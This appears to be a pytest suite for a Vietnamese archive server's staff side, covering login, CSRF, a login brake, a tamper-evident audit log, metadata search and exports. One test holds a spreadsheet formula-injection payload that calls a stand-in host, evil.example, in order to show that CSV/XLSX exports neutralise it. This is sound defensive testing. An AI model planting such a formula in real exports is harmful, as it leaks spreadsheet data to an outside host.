"""The staff side without a browser: users, roles, sessions, CSRF, the login brake, the audit
chain, hồ sơ / văn bản metadata, search over it, the review queue and the handover exports.
The app runs in-process (FastAPI TestClient, lifespan included, no MQTT); pages enter the
archive through server.ingest exactly as in test_ingest.py."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import sqlite3
import subprocess
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import bagit
import psycopg
import pytest
from fastapi.testclient import TestClient
from harness import BIN
from httpx import Response
from markupsafe import escape
from pgcluster import url_of
from real_archive import RealArchive
from test_ingest import BatchSrc, PageSrc

from protocol import topics
from protocol.messages import PageEntry
from server.app import create_app
from server.archive import audit, auth
from server.archive.catalog import match_spans
from server.config import ServerSettings
from server.ingest import Ingest
from server.store.db import Database
from server.store.files import Store
from server.web import marked

PASSWORD = "mật-khẩu-đủ-dài"
# The staff fixture's archive comes from the real pipeline, so these tests start its parts.
pytestmark = [pytest.mark.tesseract, pytest.mark.mqtt, pytest.mark.slow]


@dataclass
class Staff:
    client: TestClient
    db: Database
    data_dir: Path
    tokens: dict[str, str]

    def bearer(self, role: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.tokens[role]}"}

    def login(self, name: str, password: str = PASSWORD) -> str:
        r = post_login(self.client, username=name, password=password)
        assert r.status_code == 200, r.text  # followed the redirect home
        return csrf_of(self.client.get("/").text)


def post_login(client: TestClient, follow_redirects: bool = True, **form: str) -> Response:
    """Submit the login form as a browser does: load it first (its CSRF value and cookie)."""
    csrf = csrf_of(client.get("/login").text)
    return client.post("/login", data={**form, "csrf": csrf}, follow_redirects=follow_redirects)


def csrf_of(html: str) -> str:
    m = re.search(r'name="csrf" value="([^"]+)"', html)
    assert m, "no CSRF field in the page"
    return m.group(1)


@pytest.fixture
def staff(
    request: pytest.FixtureRequest, tmp_path: Path, real_archive: RealArchive
) -> Iterator[Staff]:
    """The app in process over a private copy of the archive the real pipeline built
    (tests/real_archive.py: page 1 the "khoáng sản" minutes, page 2 "Sổ hộ tịch", page 3
    blank paper, flagged by the pipeline), with a user and a token per role."""
    cluster = request.getfixturevalue("pg_cluster") if real_archive.engine != "sqlite" else None
    url = real_archive.catalogue_for(tmp_path / "db" / "archive.sqlite3", cluster)
    data_dir = tmp_path / "server"
    real_archive.seed_data_dir(data_dir)
    settings = ServerSettings(data_dir=data_dir, ingest=False, database_url=url)
    db = Database(settings.database())
    tokens = {}
    for role in auth.ROLES:
        auth.add_user(db, role, role, PASSWORD)
        tokens[role] = auth.create_token(db, role)
    with TestClient(create_app(settings)) as client:
        yield Staff(client, db, data_dir, tokens)
    db.close()


@pytest.fixture
def own_store(staff: Staff, real_archive: RealArchive) -> Path:
    """The shared real archive's store is read-only for every test: one that damages files
    or writes new ones (a turned page) gets a private copy, and its private catalogue is
    pointed at it."""
    import shutil

    shared, own = real_archive.store / "store", staff.data_dir / "store"
    shutil.copytree(shared, own, dirs_exist_ok=True)
    with staff.db.tx() as con:
        con.execute(
            "UPDATE parts SET path = REPLACE(path, ?, ?) WHERE path IS NOT NULL",
            (str(shared), str(own)),
        )
    return own


def ho_so_body(**over: object) -> dict[str, object]:
    body: dict[str, object] = {
        "organ_id": "000.00.00.H53",
        "nam": 1998,
        "ky_hieu": "01.HT",
        "tieu_de": "Hồ sơ xử lý vi phạm khai thác khoáng sản năm 1998",
        "thoi_han_bao_quan": "Vĩnh viễn",
        "che_do_su_dung": "Công khai",
        "nguoi_lap": "Nguyễn Văn A",
        "ngon_ngu": "Tiếng Việt",
        "thoi_gian_bat_dau": "1998-01-05",
        "thoi_gian_ket_thuc": "1998-12-30",
        "tu_khoa": "khoáng sản; vi phạm hành chính",
        "so_luong_to": 3,
    }
    body.update(over)
    return body


MA = "000.00.00.H53.1998.01.HT"


def make_ho_so(s: Staff) -> dict[str, object]:
    r = s.client.put(f"/api/v1/ho-so/{MA}", json=ho_so_body(), headers=s.bearer("archivist"))
    assert r.status_code == 200, r.text
    pages = s.client.get("/api/v1/batches/1", headers=s.bearer("viewer")).json()["pages"]
    r = s.client.post(
        f"/api/v1/ho-so/{MA}/van-ban",
        json={
            "ten_loai": "Biên bản",
            "so": "12",
            "ky_hieu": "BB-UBND",
            "ngay": "1998-03-02",
            "co_quan_ban_hanh": "Ủy ban nhân dân xã Tân Lập",
            "trich_yeu": "Xử lý vi phạm khai thác khoáng sản trái phép",
            "pages": [pages[0]["id"], pages[1]["id"]],
        },
        headers=s.bearer("archivist"),
    )
    assert r.status_code == 201, r.text
    return dict(r.json())


# -- users, roles, tokens, sessions -----------------------------------------------------------


def test_passwords_are_salted_scrypt() -> None:
    a, b = auth.hash_password("same password"), auth.hash_password("same password")
    assert a != b and a.startswith("scrypt$")
    assert auth.check_password("same password", a)
    assert not auth.check_password("same passworD", a)
    assert not auth.check_password("x", "garbage")


def test_roles_401_403(staff: Staff) -> None:
    c = staff.client
    assert c.get("/api/v1/ho-so").status_code == 401
    assert c.get("/api/v1/ho-so", headers={"Authorization": "Bearer nope"}).status_code == 401
    assert c.get("/api/v1/ho-so", headers=staff.bearer("viewer")).status_code == 200
    put = c.put(f"/api/v1/ho-so/{MA}", json=ho_so_body(), headers=staff.bearer("viewer"))
    assert put.status_code == 403
    assert c.get("/api/v1/catalogue.csv", headers=staff.bearer("viewer")).status_code == 403
    assert c.get("/api/v1/audit", headers=staff.bearer("archivist")).status_code == 403
    assert c.get("/api/v1/audit", headers=staff.bearer("admin")).status_code == 200


def test_token_for_unknown_user_is_refused(staff: Staff) -> None:
    with pytest.raises(auth.AuthError):
        auth.create_token(staff.db, "nobody")


def test_web_redirects_to_login_and_session_works(staff: Staff) -> None:
    c = staff.client
    for path in ("/", "/batches/1", "/ho-so", "/review", "/search?q=x", "/pages/1"):
        r = c.get(path, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/login"), path
    r = post_login(c, username="viewer", password=PASSWORD, follow_redirects=False)
    assert r.status_code == 303
    cookie = r.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=lax" in cookie.replace("Lax", "lax")
    assert c.get("/").status_code == 200
    # A viewer may read pages, not the admin ones; the API accepts the session for reads only.
    assert c.get("/audit").status_code == 403
    assert c.get("/api/v1/batches").status_code == 200
    assert c.put(f"/api/v1/ho-so/{MA}", json=ho_so_body()).status_code == 401
    c.post("/logout", data={"csrf": csrf_of(c.get("/").text)})
    assert c.get("/", follow_redirects=False).status_code == 303


def test_login_form_refuses_a_post_without_its_csrf_value(staff: Staff) -> None:
    """Login CSRF: another site cannot post credentials into this form (no cookie of ours)."""
    c = staff.client
    form = {"username": "viewer", "password": PASSWORD}
    r = c.post("/login", data=form, follow_redirects=False)  # no form value, no cookie
    assert r.status_code == 403 and "sohoa_session" not in r.headers.get("set-cookie", "")
    assert "Biểu mẫu đã hết hạn" in r.text
    c.get("/login")  # the cookie is set, but the form value is forged
    r = c.post("/login", data={**form, "csrf": "forged"}, follow_redirects=False)
    assert r.status_code == 403
    cookie = c.get("/login").headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "Path=/login" in cookie
    assert c.get("/", follow_redirects=False).status_code == 303  # still logged out
    assert post_login(c, **form, follow_redirects=False).status_code == 303
    assert "login.csrf" in [r["action"] for r in audit.recent(staff.db, 50)]


def test_no_token_in_a_url_logs_anyone_in(staff: Staff) -> None:
    # The attack: /login?token=… put a 90-day token in URLs and the access log, and logged
    # a victim who followed an attacker's link into the attacker's account.
    c = staff.client
    r = c.get(f"/login?token={staff.tokens['archivist']}", follow_redirects=False)
    assert r.status_code == 200 and "sohoa_session" not in r.headers.get("set-cookie", "")
    assert c.get("/", follow_redirects=False).status_code == 303  # not logged in
    # A token pasted into the login form (a POST, never a URL) still works.
    csrf = csrf_of(c.get("/login").text)
    r = c.post("/login", data={"token": staff.tokens["archivist"], "csrf": csrf},
               follow_redirects=False)  # fmt: skip
    assert r.status_code == 303 and c.get("/ho-so/new").status_code == 200


def test_one_time_login_link(staff: Staff) -> None:
    c = staff.client
    code = auth.create_login_link(staff.db, "archivist")
    # Opening the link names the account and spends nothing (link previews fetch it).
    for _ in range(2):
        page = c.get(f"/login/link?code={code}")
        assert page.status_code == 200 and "archivist" in page.text
    assert c.get("/", follow_redirects=False).status_code == 303
    csrf = csrf_of(page.text)
    assert c.post("/login/link", data={"code": code, "csrf": "forged"}).status_code == 403
    r = c.post("/login/link", data={"code": code, "csrf": csrf}, follow_redirects=False)
    assert r.status_code == 303 and c.get("/ho-so/new").status_code == 200
    c.post("/logout", data={"csrf": csrf_of(c.get("/").text)})
    # Spent: the same link logs nobody in again.
    assert c.get(f"/login/link?code={code}").status_code == 401
    csrf = csrf_of(c.get("/login").text)
    r = c.post("/login/link", data={"code": code, "csrf": csrf}, follow_redirects=False)
    assert r.status_code == 401
    assert c.get("/logout", follow_redirects=False).status_code == 405  # POST only


def test_another_site_cannot_log_staff_out(staff: Staff) -> None:
    # A form on another site posting to /logout (no CSRF value, or a wrong one) ended the
    # session: now it needs the session's own value, like every other change.
    c = staff.client
    csrf = staff.login("archivist")
    for forged in ({}, {"csrf": "forged"}):
        r = c.post("/logout", data=forged, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"] == "/"
        assert c.get("/ho-so/new", follow_redirects=False).status_code == 200  # still in
    r = c.post("/logout", data={"csrf": csrf}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/login"
    assert c.get("/ho-so/new", follow_redirects=False).status_code == 303  # out


def test_login_brake(staff: Staff) -> None:
    c = staff.client
    for _ in range(auth.FREE_FAILURES):
        r = post_login(c, username="viewer", password="wrong password")
        assert r.status_code == 401
    # Now locked: even the right password is refused for a while.
    r = post_login(c, username="viewer", password=PASSWORD)
    assert r.status_code == 429
    assert "giây" in r.text
    assert 0 < auth.locked_for(staff.db, "viewer", "testclient") <= 2
    # Once the lock-out has passed, the right password works and clears the counters.
    with staff.db.tx() as con:
        con.execute("UPDATE login_failures SET last_at = last_at - 10")
    r = post_login(c, username="viewer", password=PASSWORD)
    assert r.status_code == 200
    assert staff.db.read().execute("SELECT COUNT(*) FROM login_failures").fetchone()[0] == 0


def test_csrf_is_required(staff: Staff) -> None:
    staff.login("archivist")
    r = staff.client.post("/ho-so/new", data={**ho_so_body(), "csrf": "forged"})
    assert r.status_code == 403
    assert (
        staff.client.get(f"/api/v1/ho-so/{MA}", headers=staff.bearer("viewer")).status_code == 404
    )


def test_cli_user_add_and_token(tmp_path: Path, database: Path | str) -> None:
    env = {
        "SOHOA_SERVER_DATA_DIR": str(tmp_path),
        "SOHOA_DATABASE_URL": url_of(database),
        "PATH": "/usr/bin:/bin",
    }
    pw = tmp_path / "pw"
    pw.write_text(PASSWORD + "\n")
    cli = str(BIN / "sohoa-server")
    out = subprocess.run(
        [cli, "token", "create", "--user", "ghost"], env=env, capture_output=True, text=True
    )
    assert out.returncode == 2 and "no such user" in out.stderr
    out = subprocess.run(
        [cli, "user", "add", "lan", "--role", "archivist", "--password-file", str(pw)],
        env=env, capture_output=True, text=True, check=True,
    )  # fmt: skip
    token = subprocess.run(
        [cli, "token", "create", "--user", "lan"], env=env, capture_output=True, text=True,
        check=True,
    ).stdout.strip()  # fmt: skip
    db = Database(database)
    assert auth.principal_for_token(db, token) == auth.Principal("lan", "archivist")
    assert auth.authenticate(db, "lan", PASSWORD, "1.2.3.4") is not None
    out = subprocess.run([cli, "audit", "verify"], env=env, capture_output=True, text=True)
    # user.add, token.create and the login (auth.login audits what it decides)
    assert out.returncode == 0 and "3 rows" in out.stdout


# -- audit ------------------------------------------------------------------------------------


def test_audit_records_and_is_append_only(staff: Staff, tmp_path: Path) -> None:
    c = staff.client
    post_login(c, username="admin", password="wrong password")
    csrf = staff.login("admin")
    c.get("/batches/1")
    make_ho_so(staff)
    assert c.post("/api/v1/catalogue.csv", data={"csrf": csrf}).status_code == 200
    actions = [r["action"] for r in audit.recent(staff.db, 100)]
    for expected in ("login.fail", "login", "batch.view", "ho_so.create", "van_ban.create",
                     "export.catalogue"):  # fmt: skip
        assert expected in actions
    assert "Mã hồ sơ" not in c.get("/audit").text  # the page renders
    assert "ho_so.create" in c.get("/audit").text
    con = staff.db.connect()
    refused = (sqlite3.DatabaseError, psycopg.Error)
    with pytest.raises(refused, match="append-only"):
        con.execute("UPDATE audit SET actor = 'someone else' WHERE id = 2")
    with pytest.raises(refused, match="append-only"):
        con.execute("DELETE FROM audit WHERE id = 2")
    if staff.db.dialect == "postgresql":
        with pytest.raises(refused, match="append-only"):
            con.execute("TRUNCATE audit")
    count, broken = audit.verify(staff.db)
    assert broken is None and count >= 6
    # Tampering behind the database's back (trigger dropped) is caught by the chain.
    if staff.db.dialect == "sqlite":
        con.execute("DROP TRIGGER audit_no_update")
    else:
        con.execute("DROP TRIGGER audit_no_change ON audit")
    con.execute("UPDATE audit SET target = 'x' WHERE id = 3")
    count, broken = audit.verify(staff.db)
    assert broken is not None and broken.row_id == 3 and count == 2
    env = {
        "SOHOA_SERVER_DATA_DIR": str(staff.data_dir),
        "SOHOA_DATABASE_URL": url_of(staff.db.url),
        "PATH": "/usr/bin:/bin",
    }
    out = subprocess.run(
        [str(BIN / "sohoa-server"), "audit", "verify"], env=env, capture_output=True, text=True
    )
    assert out.returncode == 1 and "row 3" in out.stderr


# -- hồ sơ / văn bản --------------------------------------------------------------------------


def test_ho_so_validation(staff: Staff) -> None:
    h = staff.bearer("archivist")
    put = staff.client.put
    assert (
        put(f"/api/v1/ho-so/{MA}", json=ho_so_body(tieu_de="x" * 501), headers=h).status_code == 422
    )
    assert (
        put(f"/api/v1/ho-so/{MA}", json=ho_so_body(tieu_de="x" * 500), headers=h).status_code == 200
    )
    for bad in (
        {"organ_id": "000.00.00.H53X"},  # 14 characters
        {"ky_hieu": "x" * 21},
        {"nam": 98},
        {"thoi_han_bao_quan": "mãi mãi"},
        {"che_do_su_dung": "Ai cũng xem"},
        {"muc_do_tin_cay": "04"},
        {"ngon_ngu": "Klingon"},
        {"nguoi_lap": "x" * 31},
        {"thoi_gian_bat_dau": "1999-01-01"},  # after the end
        {"unknown_field": 1},
    ):
        body = ho_so_body(**bad)
        ma = f"{body['organ_id']}.{body['nam']}.{body['ky_hieu']}"
        assert put(f"/api/v1/ho-so/{ma}", json=body, headers=h).status_code == 422, bad
    # The path must be the code the body makes.
    assert put("/api/v1/ho-so/other", json=ho_so_body(), headers=h).status_code == 422
    ok = put(f"/api/v1/ho-so/{MA}", json=ho_so_body(thoi_han_bao_quan="20 năm"), headers=h)
    assert ok.json()["thoi_han_bao_quan"] == "20 năm"


def test_van_ban_legal_names_and_search(staff: Staff) -> None:
    doc = make_ho_so(staff)
    assert doc["file_name"] == f"{MA}.001" and doc["stt"] == 1 and doc["so_trang"] == 2
    got = staff.client.get(f"/api/v1/ho-so/{MA}", headers=staff.bearer("viewer")).json()
    assert got["ma_ho_so"] == MA
    assert got["tong_so_van_ban"] == 1 and got["tong_so_trang"] == 2
    # Same số thứ tự twice: refused; unknown page: 404.
    h = staff.bearer("archivist")
    dup = {"stt": 1, "pages": [1]}
    assert staff.client.post(f"/api/v1/ho-so/{MA}/van-ban", json=dup, headers=h).status_code == 409
    gone = {"pages": [999]}
    assert staff.client.post(f"/api/v1/ho-so/{MA}/van-ban", json=gone, headers=h).status_code == 404
    # Metadata search ignores diacritics without them, is exact with them.
    find = staff.client.get
    v = staff.bearer("viewer")
    hits = find("/api/v1/ho-so-search?q=khoang san", headers=v).json()
    assert {x["ma_ho_so"] for x in hits} == {MA} and len(hits) == 2  # the hồ sơ and its văn bản
    assert find("/api/v1/ho-so-search?q=khoáng sản", headers=v).json()
    assert find("/api/v1/ho-so-search?q=khoang sàn", headers=v).json() == []
    staff.login("viewer")
    page = staff.client.get("/search?q=tan lap").text
    assert "<mark>TÂN</mark> <mark>LẬP</mark>" in page  # the page text
    assert "xã <mark>Tân</mark> <mark>Lập</mark>" in page  # the văn bản's issuing body


def test_search_page_and_api_are_one_search(staff: Staff) -> None:
    """The staff page and /api/v1/search (both server.archive.search) show the same hits in the same
    order with the same words marked, with diacritics and without."""
    make_ho_so(staff)
    staff.login("viewer")
    v = staff.bearer("viewer")
    seen = {}
    for q in ("tan lap", "TÂN LẬP", "khoang san", "khoáng sản", "khoang sàn", "ho tich", "1998"):
        api = staff.client.get("/api/v1/search", params={"q": q}, headers=v).json()
        html = staff.client.get("/search", params={"q": q}).text
        pages = [h["page"] for h in api if h["kind"] == "page"]
        meta = [(h["kind"], h["ma_ho_so"]) for h in api if h["kind"] != "page"]
        assert [int(n) for n in re.findall(r'href="/pages/(\d+)\?q=', html)] == pages, q
        assert re.findall(r'<li><a href="/ho-so/([^"]+)">', html) == [m for _, m in meta], q
        marks = [str(escape(h["snippet"][s:e])) for h in api for s, e in h["spans"]]
        assert sorted(re.findall(r"<mark>(.*?)</mark>", html)) == sorted(marks), q
        seen[q] = (len(pages), len(meta))
    assert seen["tan lap"] == seen["TÂN LẬP"] == (1, 1)  # the page and the văn bản
    assert seen["khoang san"] == seen["khoáng sản"] == (1, 2)  # + the hồ sơ
    assert seen["khoang sàn"] == (0, 0)
    assert seen["ho tich"] == (1, 0)


def test_web_forms_create_and_edit(staff: Staff) -> None:
    csrf = staff.login("archivist")
    c = staff.client
    form = c.get("/ho-so/new?batch=1").text
    assert "Tiêu đề hồ sơ" in form and "Thời hạn bảo quản" in form and "Mức độ tin cậy" in form
    body = {k: str(v) for k, v in ho_so_body().items()} | {"csrf": csrf, "batch": "1"}
    r = c.post("/ho-so/new", data={**body, "nguoi_lap": "x" * 31})
    assert r.status_code == 422 and "nguoi_lap" in r.text
    r = c.post("/ho-so/new", data=body)
    assert r.status_code == 200 and MA in r.text
    doc = {"csrf": csrf, "batch": "1", "pages": "1-2", "ten_loai": "Biên bản", "trich_yeu": "Đất"}
    r = c.post(f"/ho-so/{MA}/van-ban", data=doc)
    assert r.status_code == 200 and f"{MA}.001" in r.text
    r = c.post(f"/ho-so/{MA}/van-ban", data={"csrf": csrf, "batch": "1", "pages": "7"})
    assert r.status_code == 422 and "no page 7" in r.text
    r = c.post(f"/ho-so/{MA}", data={**body, "tieu_de": "Tiêu đề đã sửa", "organ_id": "hack"})
    assert r.status_code == 200
    got = c.get(f"/api/v1/ho-so/{MA}").json()
    assert got["tieu_de"] == "Tiêu đề đã sửa" and got["organ_id"] == "000.00.00.H53"
    en = c.get(f"/ho-so/{MA}?lang=en").text
    assert "Retention period" in en and "Thời hạn bảo quản" not in en


# -- viewer, review, dashboard ----------------------------------------------------------------


def highlight(text: str, terms: list[str], exact: bool) -> str:
    return str(marked(text, match_spans(text, terms, exact)))


def test_highlight_keeps_offsets() -> None:
    assert match_spans("Khoáng sản <b>", ["khoang", "san"], False) == [(0, 6), (7, 10)]
    assert highlight("Khoáng sản <b>", ["khoang", "san"], False) == (
        "<mark>Khoáng</mark> <mark>sản</mark> &lt;b&gt;"
    )
    # A stray combining mark must not shift later offsets.
    assert "<mark>sản</mark>" in highlight("a\u0301\u0301 sản", ["san"], False)
    assert highlight("khoáng khoang", ["khoáng"], True) == "<mark>khoáng</mark> khoang"


def test_viewer_review_dashboard(staff: Staff) -> None:
    csrf = staff.login("archivist")
    c = staff.client
    page = c.get("/pages/1?q=khoang san").text
    assert "<mark>khoáng</mark> <mark>sản</mark>" in page
    # The image is the server's rendering of the archival PDF/A, which a browser can show.
    assert "/api/v1/pages/1/render?w=" in page and "/api/v1/pages/1/image" not in page
    assert 'data-q="khoang san"' in page and "<script>" not in page
    # The review queue holds what the pipeline flagged: the blank sheet, page 3.
    queue = c.get("/review").text
    assert "trang trắng" in queue and "OCR kém tin cậy" not in queue
    assert [i["id"] for i in c.get("/api/v1/review").json()] == [3]
    assert c.post("/review/3", data={"csrf": csrf}).status_code == 200
    assert c.get("/api/v1/review").json() == []
    assert c.get("/").status_code == 200


# -- exports ----------------------------------------------------------------------------------


def test_bag_export_validates_and_detects_a_flipped_byte(staff: Staff, tmp_path: Path) -> None:
    make_ho_so(staff)
    r = staff.client.get(f"/api/v1/ho-so/{MA}/bag", headers=staff.bearer("archivist"))
    assert r.status_code == 200 and r.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(r.content)) as zf:
        zf.extractall(tmp_path / "out")
    bag_dir = tmp_path / "out" / MA
    bag = bagit.Bag(str(bag_dir))
    bag.validate()
    assert "sha256" in bag.algorithms
    assert sorted(bag.payload_files()) == [f"data/{MA}.001.pdf", "data/metadata/ho-so.json"]
    assert bag.info["External-Identifier"] == MA
    assert bag.info["Tiêu đề hồ sơ"].startswith("Hồ sơ xử lý vi phạm")
    pdf = (bag_dir / "data" / f"{MA}.001.pdf").read_bytes()
    assert pdf.startswith(b"%PDF-") and pdf.count(b"/Type /Page ") == 2
    target = bag_dir / "data" / f"{MA}.001.pdf"
    data = bytearray(target.read_bytes())
    data[len(data) // 2] ^= 0x01
    target.write_bytes(bytes(data))
    with pytest.raises(bagit.BagValidationError):
        bagit.Bag(str(bag_dir)).validate()


def test_catalogue_csv_and_xlsx(staff: Staff) -> None:
    make_ho_so(staff)
    h = staff.bearer("archivist")
    r = staff.client.get("/api/v1/catalogue.csv", headers=h)
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["STT", "Mã hồ sơ", "Tiêu đề hồ sơ", "Thời hạn bảo quản"]
    assert rows[1][1] == MA and rows[1][2].startswith("Hồ sơ xử lý")
    assert "05/01/1998" in rows[1]
    x = staff.client.get("/api/v1/catalogue.xlsx", headers=h)
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(x.content)).active
    assert ws["B1"].value == "Mã hồ sơ" and ws["B2"].value == MA
    bulk = staff.client.get("/api/v1/export/000.00.00.H53.zip", headers=h)
    with zipfile.ZipFile(io.BytesIO(bulk.content)) as zf:
        assert sorted(zf.namelist()) == [f"{MA}.zip", "danh-muc-ho-so.csv"]


def test_catalogue_cells_are_never_formulas(staff: Staff) -> None:
    # The attack: metadata that a spreadsheet runs (=HYPERLINK became a live formula).
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    body = ho_so_body(tieu_de=evil, nguoi_lap="@SUM(1+1)", ghi_chu="\t=1+2")
    h = staff.bearer("archivist")
    assert staff.client.put(f"/api/v1/ho-so/{MA}", json=body, headers=h).status_code == 200
    r = staff.client.get("/api/v1/catalogue.csv", headers=h)
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Tiêu đề hồ sơ"] == "'" + evil
    assert row["Người lập hồ sơ"] == "'@SUM(1+1)"
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in rows[1])
    x = staff.client.get("/api/v1/catalogue.xlsx", headers=h)
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(x.content)).active
    cells = {c.value: c for c in ws[2]}
    assert cells[evil].data_type == "s"  # kept as entered, stored as text
    assert all(c.data_type != "f" for c in ws[2])


# -- review actions: rotate, re-scan request --------------------------------------------------


@dataclass
class FakePublisher:
    """Stands in for the running IngestWorker (the same seam: ``publish``). ``answer`` is what
    the broker's PUBACK says: True = taken for the device's session, False = no subscriber."""

    connected: bool = True
    answer: bool = True
    sent: list[tuple[str, bytes]] = field(default_factory=list)

    def publish(self, topic: str, payload: bytes, qos: int = 1, on_puback=None) -> bool:  # type: ignore[no-untyped-def]
        if not self.connected:
            return False
        assert qos == 1
        self.sent.append((topic, payload))
        if on_puback is not None:
            on_puback(self.answer, "Success" if self.answer else "No matching subscribers")
        return True

    def stop(self) -> None:  # the app stops its worker at shutdown
        self.connected = False


def _rescan_rows(s: Staff) -> list[dict[str, object]]:
    return [dict(r) for r in s.db.read().execute("SELECT * FROM rescan_requests ORDER BY id")]


def test_rescan_request_is_recorded_audited_and_sent_when_connected(staff: Staff) -> None:
    from protocol import envelope
    from protocol.messages import Command
    from server.archive import rescan

    csrf = staff.login("archivist")
    c = staff.client
    # No broker link (ingest disabled): the request is kept as 'requested'.
    r = c.post("/review/2", data={"csrf": csrf, "action": "rescan", "note": "Trang bị mờ"})
    assert r.status_code == 200 and "Trang bị mờ" in r.text and 'data-state="requested"' in r.text
    (row,) = _rescan_rows(staff)
    assert row["state"] == "requested" and row["requested_by"] == "archivist"
    assert row["note"] == "Trang bị mờ" and row["page_pk"] == 2
    # A decision: the page left the queue; the audit log names it.
    assert [i["id"] for i in c.get("/api/v1/review").json()] == [3]
    assert any(
        a["action"] == "review.rescan" and a["target"] == "2" for a in audit.recent(staff.db)
    )

    # The worker connects: what is waiting goes out, once, as a Command on the command topic.
    worker = FakePublisher()
    assert rescan.send_pending(staff.db, worker, None, rescan.RESEND_ON_CONNECT) == 1
    ((topic, payload),) = worker.sent
    page = c.get("/api/v1/pages/2").json()
    msg = envelope.decode(payload).message
    assert isinstance(msg, Command) and msg.command == "rescan"
    assert msg.page_id == page["page_id"] and msg.note == "Trang bị mờ"
    assert topic == topics.down(msg.device_id, "command")
    batch = c.get("/api/v1/batches/1").json()
    assert msg.batch_id == batch["batch_id"] and msg.msg_id == row["msg_id"]
    assert _rescan_rows(staff)[0]["state"] == "acknowledged"
    assert rescan.send_pending(staff.db, worker, None, rescan.RESEND_ON_CONNECT) == 0
    assert 'data-state="acknowledged"' in c.get("/review").text


def test_rescan_via_api_with_a_live_worker_and_no_subscriber(staff: Staff) -> None:
    from server.archive import rescan

    worker = FakePublisher(answer=False)  # the device never connected: broker says 0x10
    staff.client.app.state.worker = worker  # type: ignore[attr-defined]
    h = staff.bearer("archivist")
    r = staff.client.post(
        "/api/v1/pages/3/review", json={"action": "rescan", "note": "x"}, headers=h
    )
    assert r.status_code == 204
    assert len(worker.sent) == 1 and _rescan_rows(staff)[0]["state"] == "requested"
    # The device comes online: its waiting request goes again and is taken this time.
    worker.answer = True
    assert rescan.send_pending(staff.db, worker) == 1
    assert _rescan_rows(staff)[0]["state"] == "acknowledged"
    listed = staff.client.get("/api/v1/rescans", headers=staff.bearer("viewer")).json()
    assert [(x["page_pk"], x["state"], x["sends"]) for x in listed] == [(3, "acknowledged", 2)]
    # Roles and unknown pages.
    v = staff.bearer("viewer")
    assert (
        staff.client.post(
            "/api/v1/pages/2/review", json={"action": "rescan"}, headers=v
        ).status_code
        == 403
    )
    assert (
        staff.client.post(
            "/api/v1/pages/99/review", json={"action": "rescan"}, headers=h
        ).status_code
        == 404
    )


def test_rescan_and_rotate_need_archivist_and_csrf(staff: Staff) -> None:
    csrf = staff.login("viewer")
    c = staff.client
    assert c.post("/review/2", data={"csrf": csrf, "action": "rescan"}).status_code == 403
    c.post("/logout", data={"csrf": csrf})
    csrf = staff.login("archivist")
    assert c.post("/review/2", data={"csrf": "forged", "action": "rescan"}).status_code == 403
    assert (
        c.post(
            "/review/2", data={"csrf": "forged", "action": "rotate", "degrees": "90"}
        ).status_code
        == 403
    )
    assert c.post("/review/2", data={"csrf": csrf, "action": "delete"}).status_code == 422
    assert _rescan_rows(staff) == []
    assert staff.db.read().execute("SELECT COUNT(*) FROM page_views").fetchone()[0] == 0


def test_rotate_makes_a_turned_archival_version_that_exports_use(
    staff: Staff, own_store: Path
) -> None:
    """Issue 17: a turn chosen in review is real — a new archival PDF with the page turned
    (the original kept, provenance recorded) that the viewer, the exports and the AIP use."""
    import hashlib

    import numpy as np
    import pikepdf
    import pypdfium2 as pdfium

    from server.archive import rotation

    csrf = staff.login("archivist")
    c = staff.client
    before = c.get("/api/v1/pages/1/image")
    original = (
        staff.db.read()
        .execute("SELECT path, sha256 FROM parts WHERE page_pk = 1 AND name = 'archival'")
        .fetchone()
    )
    assert before.headers["x-sha256"] == original["sha256"]
    words_before = c.get("/api/v1/pages/1/words?q=khoang").json()
    assert len(words_before) == 2
    r = c.post("/review/1", data={"csrf": csrf, "action": "rotate", "degrees": "45"})
    assert r.status_code == 422
    r = c.post(
        "/review/1",
        data={"csrf": csrf, "action": "rotate", "degrees": "90", "next": "/pages/1"},
        follow_redirects=False,
    )
    assert r.status_code == 303 and r.headers["location"] == "/pages/1"
    after = c.get("/api/v1/pages/1/image")
    assert after.headers["x-sha256"] != before.headers["x-sha256"]
    assert hashlib.sha256(after.content).hexdigest() == after.headers["x-sha256"]
    # the original is kept, byte for byte; the viewer no longer turns the page with CSS
    stored = Path(original["path"]).read_bytes()
    assert hashlib.sha256(stored).hexdigest() == original["sha256"] == before.headers["x-sha256"]
    assert 'data-rotation="0"' in c.get("/pages/1").text
    (version,) = rotation.versions(staff.db, 1)
    assert (version.degrees, version.from_sha256, version.actor) == (
        90, original["sha256"], "archivist"
    )  # fmt: skip
    assert version.sha256 == after.headers["x-sha256"]
    # The viewer's highlights turn with the page, and sit on ink in the turned rendering.
    words_after = c.get("/api/v1/pages/1/words?q=khoang").json()
    for b, a in zip(words_before, words_after, strict=True):
        expected = (1 - b["top"] - b["height"], b["left"], b["height"], b["width"])
        assert (a["left"], a["top"], a["width"], a["height"]) == pytest.approx(expected)
    shown = pdfium.PdfDocument(after.content)
    try:
        grey = np.asarray(shown[0].render(scale=1).to_pil().convert("L"))
    finally:
        shown.close()
    for a in words_after:
        h, w = grey.shape
        box = grey[int(a["top"] * h) : int((a["top"] + a["height"]) * h),
                   int(a["left"] * w) : int((a["left"] + a["width"]) * w)]  # fmt: skip
        assert box.size and box.min() < 100 and box.mean() < grey.mean() - 10  # ink there

    # The export carries the turned page, still PDF/A with its text layer.
    make_ho_so(staff)
    r = c.get(f"/api/v1/ho-so/{MA}/bag", headers=staff.bearer("archivist"))
    assert r.status_code == 200, r.text
